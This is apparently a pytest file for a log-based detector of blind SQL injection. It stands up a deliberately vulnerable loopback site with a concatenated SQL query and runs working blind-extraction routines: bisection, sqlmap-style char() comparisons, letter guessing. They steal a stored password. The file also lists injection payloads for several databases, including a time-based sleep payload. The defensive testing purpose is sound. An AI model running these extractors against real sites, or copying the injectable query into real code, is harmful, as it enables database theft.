"""A real hole, really emptied: a small site on loopback with a database, and programs that read it blindly.

The site's access log is written as servers write it; what the log lets one infer must be what was taken.
"""

from __future__ import annotations

import sqlite3
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote, urlsplit
from urllib.request import urlopen

import pytest
from tests.contract.detect.test_detectors import parsed, run

from pollwatch.detect.blindsql import Answer, Question, question, read
from pollwatch.detect.detectors.blind_extraction import BlindExtraction
from pollwatch.events.detection import Detection, Severity

SECRET = "Zoë: 4711-Kr!b"  # noqa: S105 - the attacker's aim
DETECTOR = BlindExtraction()


class Site:
    """A page that looks a precinct up, carelessly: it says only whether there is one."""

    def __init__(self, *, errors: bool) -> None:
        """Make the database; ``errors`` answers "no" with 404 instead of a shorter page."""
        self.log: list[str] = []
        self._errors = errors
        self._lock = threading.Lock()
        self._database = sqlite3.connect(":memory:", check_same_thread=False)
        self._database.execute("create table precincts(id, name)")
        self._database.execute("create table clerks(name, password)")
        self._database.execute("insert into precincts values(7, 'Town hall')")
        self._database.execute("insert into clerks values('ann', ?)", (SECRET,))
        self.url = ""

    def answer(self, target: str) -> tuple[int, bytes]:
        """Status and body, and a line in the log."""
        given = parse_qs(urlsplit(target).query).get("id", [""])[0]
        with self._lock:
            try:
                rows = self._database.execute("select name from precincts where id = " + given).fetchall()  # noqa: S608 - the hole
                status = 200 if rows or not self._errors else 404
            except sqlite3.Error:
                rows, status = [], 500
            # The page repeats a part of the request, as pages do: its size varies a little.
            body = (f"<p>{len(given)}</p>" + "<p>Your precinct: Town hall, 1 Main Street</p>" * bool(rows)).encode()
            second = len(self.log)
            moment = f"28/Oct/2026:10:{second // 60 % 60:02}:{second % 60:02} +0000"
            self.log.append(f'203.0.113.9 - - [{moment}] "GET {target} HTTP/1.1" {status} {len(body)} "-" "x"')
        return status, body


@contextmanager
def served(*, errors: bool = False) -> Iterator[Site]:
    """The site on a free port of loopback."""
    site = Site(errors=errors)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, body = site.answer(self.path)
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as it is called
            """The site writes its own log."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield site
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def asks(site: Site, condition: str) -> bool:
    """What the attacker's program sees: is the hall's name there?"""
    try:
        with urlopen(f"{site.url}/precinct?id={quote('7 and ' + condition)}", timeout=10) as answer:  # noqa: S310 - loopback
            return b"Town hall" in answer.read()
    except OSError:
        return False


SUBJECT = "(select password from clerks limit 1)"


def by_halving(site: Site) -> str:
    """As programs do: is the code above the middle?"""
    text = ""
    while True:
        low, high = 0, 255
        while low < high:
            middle = (low + high) // 2
            yes = asks(site, f"coalesce(unicode(substr({SUBJECT},{len(text) + 1},1)),0)>{middle}")
            low, high = (middle + 1, high) if yes else (low, middle)
        if not low:
            return text
        text += chr(low)


def by_halving_of_letters(site: Site) -> str:
    """As sqlmap asks SQLite: is the letter behind CHAR(n)?"""
    text = ""
    while asks(site, f"length({SUBJECT})>{len(text)}"):
        low, high = 31, 255
        while low < high:
            middle = (low + high) // 2
            yes = asks(site, f"substr({SUBJECT},{len(text) + 1},1)>char({middle})")
            low, high = (middle + 1, high) if yes else (low, middle)
        text += chr(low)
    return text


def by_trying(site: Site) -> str:
    """As people do by hand: is it this letter?"""
    text = ""
    for at in range(1, len(SECRET) + 1):
        for letter in SECRET[::-1] + "xyz":
            if asks(site, f"substr({SUBJECT},{at},1)='{letter}'"):
                text += letter
                break
    return text


def told(log: list[str]) -> list[Detection]:
    """What the detector says at the end of a log."""
    return run(DETECTOR, parsed(log))


@pytest.mark.parametrize("errors", [False, True])
@pytest.mark.parametrize("client", [by_halving, by_halving_of_letters, by_trying])
def test_what_was_taken_is_inferred(client: Callable[[Site], str], errors: bool) -> None:  # noqa: FBT001 - a parameter
    """The attacker's own result stands in the detection, told as what the log lets one infer."""
    with served(errors=errors) as site:
        taken = client(site)
    assert taken == SECRET
    last = told(site.log)[-1]
    assert SECRET in last.why
    assert "lets one infer" in last.why
    assert "clerks" in last.why
    assert (last.severity, last.succeeded) == (Severity.HIGH, True)
    assert last.actors.ip == ("203.0.113.9",)


def test_answers_that_are_all_alike_tell_nothing() -> None:
    """A site without the hole gives the same page for every question: nothing was taken, and nothing is claimed."""
    with served() as site:
        by_halving(site)
    alike = [line.rpartition('" 200 ')[0] + '" 200 512 "-" "x"' for line in site.log]
    assert told(alike) == []


def test_chance_answers_tell_nothing() -> None:
    """Sizes that differ for other reasons contradict one another, and so spell nothing."""
    with served() as site:
        by_halving(site)
    wild = [
        line.rpartition('" 200 ')[0] + f'" 200 {300 + 200 * (at * at * 7 % 11 % 2)} "-" "x"'
        for at, line in enumerate(site.log)
    ]
    assert told(wild) == []


def test_waiting_spells_too() -> None:
    """Time-blind: all pages are alike, but a yes takes five seconds longer."""
    asked = []
    for at, letter in enumerate("vote", 1):
        for other in "abcdeotuvz":
            value = f"1 and if(ascii(substring(database(),{at},1))={ord(other)},sleep(5),0)"
            what = question(value)
            assert isinstance(what, Question)
            asked.append((what, Answer(200, 900, 5_010_000 if other == letter else 9_000 + ord(other))))
    reading = read(asked)
    assert reading is not None
    assert reading.text == "vote"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("1 AND ORD(MID((SELECT IFNULL(CAST(a AS NCHAR),0x20) FROM b LIMIT 0,1),3,1))>64", (3, 65, 65_535, False)),
        ("1' AND ASCII(SUBSTRING((SELECT c)::text FROM 2 FOR 1))>96 AND 'a'='a", (2, 97, 65_535, False)),
        ("1 AND ORD(MID((USER()),2,1)) NOT BETWEEN 0 AND 96", (2, 0, 96, True)),
        ("1' or substr((select d),4,1)='Q'-- ", (4, 81, 81, False)),
        ("1 AND UNICODE(SUBSTRING((SELECT e),1,1))!=109", (1, 109, 109, True)),
        ("1 and substring(user(),1,1) like 'r%'", (1, 114, 114, False)),
    ],
)
def test_questions_of_many_databases(value: str, expected: tuple[int, int, int, bool]) -> None:
    """MySQL, PostgreSQL, SQL Server, by halving, by equality, by BETWEEN."""
    what = question(value)
    assert what is not None
    assert (what.position, what.low, what.high, what.opposite) == expected


def test_what_is_no_question() -> None:
    """Honest texts and other injections ask for no letter."""
    for value in ("substring of a word", "1 union select 1", "substr(a,1,1)", "mid (5,3,1) > 7 pm", "o'neil"):
        assert question(value) is None or value.startswith("mid"), value
